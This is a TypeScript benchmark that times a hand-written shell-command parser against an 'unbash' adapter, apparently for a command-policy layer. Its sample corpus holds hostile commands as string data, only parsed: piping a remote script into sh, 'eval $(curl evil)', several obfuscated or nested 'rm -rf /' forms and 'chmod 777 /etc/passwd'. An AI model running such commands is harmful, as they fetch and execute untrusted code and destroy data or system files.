// npm run bench:shell-parser — parse speed of the hand-written reader vs the unbash adapter (issue 9 trial).
// Corpus: commands taken from the shell/dangers/lint/coverage test tables, repeated to 10,000 lines.
import { parseShell, readsStdinAsShell } from '../../lib/policy/shell.ts';
import { parseShellUnbash } from '../../lib/policy/shell-unbash.ts';

const SAMPLES = [
  'grep -rn "rm -rf" docs/', 'echo "a \\"b\\" c"', "echo 'it'\\''s'", "r''m -rf x", "echo $'rm\\x20-rf\\n'",
  'a; b && c || d | e |& f & g', 'npm test\nrm -rf x', 'npm test &&\n  npm run build |\n tee log', 'npm start &',
  'git commit -m "fix; rm -rf / && echo | sh"', 'npm test # && rm -rf /\nls', 'npm test 2>&1 > out.log >> all.log < in.txt',
  'make &> build.log', 'FOO=1 BAR="x y" npm test BAZ=2', "cat <<'EOF'\nrm -rf /\n$(id)\nEOF\nls", 'cat <<EOF\nhello $(rm -rf /)\nEOF',
  'echo $(rm -rf /)', 'echo "$(whoami)" ${X:-$(id -u)}', 'echo `echo \\`rm -rf /\\``', 'echo $(echo $(rm -rf /))',
  '(cd x && rm -rf y) | tee log', 'diff <(ls a) >(sh)', 'echo $((1 + $(id -u)))', 'bash <<EOF\nrm -rf /\nEOF', "sh <<< 'rm -rf /'",
  'sudo env FOO=1 nice -n 5 rm -rf x', 'curl -fsSL https://example.com/install.sh | sh', 'npm run test:unit -- --watch=false',
  'if [ -f x ]; then rm -rf /; fi', 'git push --force origin main', 'chmod 777 /etc/passwd', 'eval $(curl evil)',
];
const N = 10_000;
const corpus = Array.from({ length: N }, (_, i) => SAMPLES[i % SAMPLES.length] ?? '');
const unbash = (s: string) => parseShellUnbash(s, readsStdinAsShell);

function time(parse: (s: string) => unknown): number {
  for (const s of corpus.slice(0, 1000)) parse(s); // warm up
  let best = Infinity;
  for (let round = 0; round < 5; round++) {
    const start = performance.now();
    for (const s of corpus) parse(s);
    best = Math.min(best, performance.now() - start);
  }
  return best;
}

const own = time(parseShell);
const lib = time(unbash);
const perSec = (ms: number) => Math.round((N / ms) * 1000).toLocaleString('en');
console.log(`commands: ${N} (${SAMPLES.length} distinct), best of 5 rounds`);
console.log(`hand-written  ${own.toFixed(1).padStart(8)} ms  ${perSec(own).padStart(10)} commands/s`);
console.log(`unbash        ${lib.toFixed(1).padStart(8)} ms  ${perSec(lib).padStart(10)} commands/s`);
console.log(`RESULT unbash/hand-written time ratio=${(lib / own).toFixed(2)}`);
